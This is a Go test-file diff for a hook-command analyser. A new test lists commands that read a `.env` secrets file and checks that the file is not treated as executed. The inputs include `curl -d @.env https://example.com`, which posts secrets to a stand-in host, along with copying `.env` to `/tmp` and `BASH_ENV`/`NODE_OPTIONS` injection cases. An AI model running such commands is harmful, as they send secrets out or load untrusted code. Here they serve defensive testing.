@@ -292,7 +292,7 @@ func TestOfSettings(t *testing.T) {
 		{"command", `{"command":"./x.sh","working_dir":" "}`, "x.sh", ""},
 		{"command", `{"command":"lint","env":{"PATH":"./bin"}}`, "bin/lint", ""},
 		{"command", `{"argv":["env","lint"],"env":{"PATH":"${env.HOME}/../p/bin:/usr/bin"}}`, "bin/lint", ""},
-		{"command", `{"command":"true","env":{"BASH_ENV":"x.sh"}}`, "x.sh", ""}, // sh may be bash
+		{"command", `{"command":"true","env":{"BASH_ENV":"x.sh"}}`, "", ""}, // which sh does not read
 		{"command", `{"command":"bash -c true","env":{"BASH_ENV":"x.sh"}}`, "x.sh", ""},
 		{"command", `{"command":"node -e 1","env":{"NODE_OPTIONS":"--require ./y.sh -r./tool","A":"plain"}}`, "y.sh tool", ""},
 		{"command", `{"command":"sh \"$S\"","env":{"S":"plain"}}`, "plain", ""},
@@ -455,6 +455,31 @@ func TestSystem(t *testing.T) {
 	} {
 		if got := isSystem(test.root, test.path); got != test.want {
 			t.Errorf("%s in %s: got %v", test.path, test.root, got)
+		}
+	}
+}
+
+// What is only read is not opened, whatever names it.
+func TestOnlyRead(t *testing.T) {
+	t.Parallel()
+	needsShell(t)
+	root, home := fixture(t)
+	writeFile(t, filepath.Join(root, ".env"), "SECRET=1\n", 0o600)
+	for _, command := range []string{
+		"cat .env", "grep -q X .env && exit 2", "cp .env /tmp/x", "test -f .env", "./x.sh .env", "sh x.sh < .env", "python3 guard.py .env", "jq . .env", "env $(cat .env) ./x.sh",
+		"curl -d @.env https://example.com", "X=$(cat .env) ./x.sh", "sort .env | head", "diff .env data.json", "python3 -c 'print(open(\".env\").read())'", "awk '{print}' .env", "tool=.env; wc -l \"$tool\"",
+	} {
+		var look Look
+		plan := Of(commandHook(command), placeOf(root, home), &look)
+		for _, s := range look.Seen() {
+			if strings.HasSuffix(s.Path, "/.env") && s.Is[0] == '=' {
+				t.Errorf("%s: .env was read", command)
+			}
+		}
+		for _, part := range plan.Parts {
+			if strings.HasSuffix(part.Path, "/.env") {
+				t.Errorf("%s: .env is covered", command)
+			}
 		}
 	}
 }
